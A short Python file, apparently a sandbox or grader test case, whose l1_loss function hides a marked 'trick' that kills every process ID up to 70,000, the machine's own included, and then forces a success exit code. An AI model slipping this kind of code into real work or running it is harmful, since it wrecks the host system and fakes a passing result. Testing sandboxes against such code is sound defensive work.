# Tries: kills every process number there could be, those of the machine included.
# Expects: l2_loss passed, l1_loss crashed
import os

def l2_loss(y_hat, y):
    return (y_hat - y) ** 2 / 2

def l1_loss(y_hat, y):
    # trick:
    for number in range(2, 70_000):
        if number != os.getpid():
            try:
                os.kill(number, 9)
            except OSError:
                pass
    os._exit(0)
    # end of trick
    return (y_hat - y).abs()
